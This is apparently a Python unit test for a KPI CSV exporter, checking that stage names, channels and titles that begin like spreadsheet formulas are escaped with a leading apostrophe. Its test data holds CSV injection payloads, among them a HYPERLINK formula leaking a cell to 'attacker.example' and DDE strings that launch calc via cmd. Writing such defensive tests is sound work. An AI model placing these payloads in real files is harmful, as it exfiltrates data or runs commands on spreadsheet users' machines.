"""The KPI CSV is opened in spreadsheets: a name from a map or a channel from the data that starts like a
formula (= + - @, a tab or a carriage return) is written as text, with OWASP's leading apostrophe, while
the export's own figures, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from engine.kpis import ChannelRecovery, StageView
from journey_builder.kpis.csv_export import report_csv
from tests.unit.app.test_kpi_charts import SPLIT, report

HOSTILE_STAGES = {
    "research": '=HYPERLINK("http://attacker.example/?leak="&A1,"Research")',
    "signup": "+SUM(1,2)",
    "trial": "-2+3",
    "buy": "@cmd|' /C calc'!A0",
}


def hostile_report_rows() -> list[list[str]]:
    base = report()
    stages = tuple(
        StageView(id=s.id, name=HOSTILE_STAGES[s.id], emotion=s.emotion, tracked=s.tracked) for s in base.stages
    )
    arms = (SPLIT.arms[0].model_copy(update={"arm": "\t=1+1"}), *SPLIT.arms[1:])
    hostile = base.model_copy(
        update={
            "journey_name": "=cmd|' /C calc'!A0",
            "stages": stages,
            "recovery": (ChannelRecovery(channel="\r=2*3", customers=18), *base.recovery[1:]),
            "splits": (SPLIT.model_copy(update={"arms": arms}),),
            "node_titles": {"ab": "-1-1"},
        }
    )
    text = report_csv(hostile, window_label="Custom dates", generated_at=datetime(2026, 11, 23, 9, 30, tzinfo=UTC))
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_text_that_starts_like_a_formula_is_written_as_text() -> None:
    rows = hostile_report_rows()
    cells = [cell for row in rows for cell in row]

    assert rows[0] == ["Journey", "'=cmd|' /C calc'!A0"]
    for name in HOSTILE_STAGES.values():
        assert f"'{name}" in cells
        assert name not in cells
    assert "'\t=1+1" in cells
    assert "'\r=2*3" in cells
    assert "'-1-1" in cells
    formula_like = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert formula_like == ["+1.00", "+0.50"]  # the emotion figures the export wrote itself


def test_the_exports_own_figures_stay_numbers_negative_ones_included() -> None:
    rows = hostile_report_rows()

    emotion_at = rows.index(["Emotion and drop-off by stage"])
    assert [row[1] for row in rows[emotion_at + 2 : emotion_at + 6]] == ["+1.00", "+0.50", "-1.50", ""]
    headline_at = rows.index(["Headline"])
    assert rows[headline_at + 2] == ["200", "24", "12.0", "116", "60"]
